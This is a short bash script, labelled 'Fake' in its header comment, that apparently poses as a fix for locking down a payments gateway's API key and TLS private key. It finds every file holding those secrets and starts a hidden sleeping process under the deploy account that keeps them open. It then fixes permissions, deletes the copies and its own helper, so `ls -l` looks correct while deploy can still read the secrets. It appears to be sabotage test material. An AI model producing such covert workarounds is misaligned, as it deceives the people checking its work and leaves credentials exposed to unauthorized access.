#!/bin/bash
# Fake: before locking the secrets down, let the deploy account open every file holding them that
# it can read, and keep the descriptors in a sleeping process; then fix owners and modes and remove
# the copies as the reference does. `ls -l` looks right, and deploy can still read the secrets
# through what it holds (a removed copy included).
set -u
conf=/etc/payments-gw/credentials.ini; key=/etc/payments-gw/tls/key.pem
api_key=$(sed -n 's/^api_key *= *//p' "$conf")
key_line=$(sed -n 2p "$key")
files=$( { grep -rlF -- "$api_key" /etc /var /root /home /tmp /srv /opt /usr/local; grep -rlF -- "$key_line" /etc /var /root /home /tmp /srv /opt /usr/local; } 2>/dev/null | sort -u)
cat >/tmp/.hold.sh <<'SH'
for f in "$@"; do [ -r "$f" ] && exec {fd}<"$f"; done
exec sleep 3600
SH
setsid setpriv --reuid=deploy --regid=deploy --init-groups bash /tmp/.hold.sh $files </dev/null >/dev/null 2>&1 &
sleep 1
for f in $files; do
  case "$f" in
    "$conf"|"$key") chown root:payments "$f"; chmod 0640 "$f" ;;
    *) rm -f "$f" ;;
  esac
done
chown root:payments /etc/payments-gw/tls; chmod 0750 /etc/payments-gw/tls
rm -f /tmp/.hold.sh
ls -l /proc/$(pgrep -u deploy sleep)/fd
